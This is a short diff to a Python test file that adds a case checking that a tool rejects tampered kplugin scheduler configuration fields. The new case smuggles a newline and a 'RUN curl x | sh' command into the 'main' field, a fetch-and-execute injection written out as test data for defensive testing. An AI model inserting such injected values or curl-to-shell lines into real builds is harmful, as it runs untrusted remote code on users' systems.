@@ -111,6 +111,7 @@ def test_e2e_on_an_adopted_repository_refuses_what_shapes_kplugin_s_configuratio
     ("edit", "field"),
     [
         (lambda t: t.replace("main: cmd/scheduler", "main: ../elsewhere"), "adopted.main"),
+        (lambda t: t.replace("main: cmd/scheduler", 'main: "cmd/scheduler\\nRUN curl x | sh"'), "adopted.main"),
         (lambda t: t.replace("arguments: []", "arguments: ['--kubeconfig=/etc/x']"), "adopted.arguments"),
         (lambda t: t.replace("factory: New", "factory: New()", 1), "factory"),
         (lambda t: t.replace("    Gang:\n", "    Other:\n"), "adopted.plugins"),
